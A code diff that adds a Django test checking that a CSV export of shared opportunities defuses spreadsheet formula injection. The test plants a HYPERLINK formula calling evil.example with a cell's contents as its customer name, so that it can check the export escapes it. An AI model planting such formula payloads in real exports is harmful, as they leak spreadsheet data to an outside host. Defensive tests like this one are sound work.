@@ -367,3 +367,35 @@ def test_an_absurd_inbox_page_number_answers_an_empty_page_not_a_500(acme, globe
     assert [
         r["id"] for r in client.get("/api/v1/shared/?shared_with_me=true").json()["results"]
     ] == [str(record.pk)]
+
+
+@pytest.mark.django_db
+def test_the_csv_export_defuses_what_a_spreadsheet_would_run(acme, globex):
+    """A partner's customer or company name that starts with = + - @ is text in the export,
+    never a formula in the reader's spreadsheet; numbers stay numbers."""
+    import csv
+    import io
+
+    from sharing.services.sharing import sharing_entry_set
+    from tests.sharing.helpers import membership, partners_make, shared_opportunity_make
+
+    partners_make(acme, globex)
+    _, record = shared_opportunity_make(
+        acme, customer_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    )
+    sharing_entry_set(
+        actor=acme.owner,
+        actor_membership=membership(acme),
+        record=record,
+        partner=globex.company,
+        role="viewer",
+    )
+    client = client_on(globex.host, globex.member)
+    rows = list(
+        csv.DictReader(
+            io.StringIO(b"".join(client.get("/shared/export.csv").streaming_content).decode())
+        )
+    )
+    row = next(r for r in rows if "HYPERLINK" in r["title"])
+    assert row["title"].startswith("'=")
+    assert row["amount"] == "125000.00"
